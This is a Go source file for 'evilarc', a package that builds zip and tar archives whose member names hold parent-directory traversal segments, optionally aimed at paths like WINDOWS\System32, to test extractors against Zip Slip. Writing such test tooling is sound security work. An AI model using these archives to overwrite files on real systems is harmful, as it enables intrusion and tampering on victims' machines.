// Package evilarc creates archives whose single member is named with
// parent-directory traversal segments, so that an extractor which does
// not sanitize member names writes the file outside its destination
// directory ("Zip Slip"). It is meant for testing extraction code.
//
// The archive format is chosen from the output file's extension. Zip
// (and jar) and plain tar outputs that already exist are appended to;
// compressed tar outputs are rewritten.
package evilarc

import (
	"context"
	"fmt"
	"os"
)

// Defaults used by the command line tool.
const (
	DefaultOutputFile = "evil.zip"
	DefaultDepth      = 8
	DefaultPlatform   = Windows
)

// Request describes one archive to build.
type Request struct {
	// The file whose contents go into the archive.
	InputFile string

	// The archive to create or append to. Its extension
	// selects the format.
	OutputFile string

	// Selects the separator used in the member path.
	Platform Platform

	// Number of parent-directory segments to prepend.
	Depth int

	// Optional path inserted after the traversal segments,
	// e.g. `WINDOWS\System32`.
	Path string
}

// MemberPath returns the name the input file will have in the archive.
func (r Request) MemberPath() string {
	return BuildMemberPath(r.Platform, r.Depth, r.Path, r.InputFile)
}

func (r Request) validate() error {
	if r.InputFile == "" {
		return &Error{Kind: ArgumentError, Err: fmt.Errorf("no input file")}
	}
	if r.Depth < 0 {
		return &Error{Kind: ArgumentError, Err: fmt.Errorf("depth must not be negative: %d", r.Depth)}
	}
	return nil
}

// Result reports what Build wrote.
type Result struct {
	OutputFile string
	MemberPath string
	Format     Format
}

// Build validates req and writes its input file into the output
// archive under the traversal member path. Every error it returns
// is an *Error.
func Build(ctx context.Context, req Request) (Result, error) {
	if err := req.validate(); err != nil {
		return Result{}, err
	}

	info, err := os.Stat(req.InputFile)
	if err != nil {
		return Result{}, &Error{Kind: InputNotFound, Path: req.InputFile, Err: err}
	}
	if !info.Mode().IsRegular() {
		return Result{}, &Error{Kind: InputNotFound, Path: req.InputFile, Err: fmt.Errorf("not a regular file")}
	}
	f, err := os.Open(req.InputFile)
	if err != nil {
		return Result{}, &Error{Kind: InputNotFound, Path: req.InputFile, Err: err}
	}
	_ = f.Close() // read-only; nothing to flush

	output := req.OutputFile
	if output == "" {
		output = DefaultOutputFile
	}
	format, err := ResolveFormat(output)
	if err != nil {
		return Result{}, err
	}

	memberPath := req.MemberPath()
	if err := WriteArchive(ctx, format, output, memberPath, req.InputFile); err != nil {
		return Result{}, err
	}

	return Result{
		OutputFile: output,
		MemberPath: memberPath,
		Format:     format,
	}, nil
}

// WriteArchive writes inputFile into the archive at outputPath as a
// single entry named memberPath. If outputPath exists and format
// supports it, the entry is appended; otherwise the file is created
// or truncated. A file created by a failed write is removed.
func WriteArchive(ctx context.Context, format Format, outputPath, memberPath, inputFile string) error {
	entry, err := EntryFromDisk(inputFile, memberPath)
	if err != nil {
		return &Error{Kind: InputNotFound, Path: inputFile, Err: err}
	}

	archival, err := format.archival(entry.Size())
	if err != nil {
		return &Error{Kind: UnsupportedFormat, Path: outputPath, Err: err}
	}

	entries := []Entry{entry}

	if inserter, ok := archival.(Inserter); ok && fileExists(outputPath) {
		err = insertIntoFile(ctx, inserter, outputPath, entries)
	} else {
		err = archiveToFile(ctx, archival, outputPath, entries)
	}
	if err != nil {
		return &Error{Kind: ArchiveWriteError, Path: outputPath, Err: err}
	}
	return nil
}

func insertIntoFile(ctx context.Context, inserter Inserter, outputPath string, entries []Entry) error {
	f, err := os.OpenFile(outputPath, os.O_RDWR, 0)
	if err != nil {
		return fmt.Errorf("opening for append: %w", err)
	}
	return combineErrors(inserter.Insert(ctx, f, entries), f.Close())
}

func archiveToFile(ctx context.Context, archiver Archiver, outputPath string, entries []Entry) error {
	existed := fileExists(outputPath)

	f, err := os.Create(outputPath)
	if err != nil {
		return fmt.Errorf("creating archive: %w", err)
	}
	err = combineErrors(archiver.Archive(ctx, f, entries), f.Close())
	if err != nil && !existed {
		os.Remove(outputPath)
	}
	return err
}
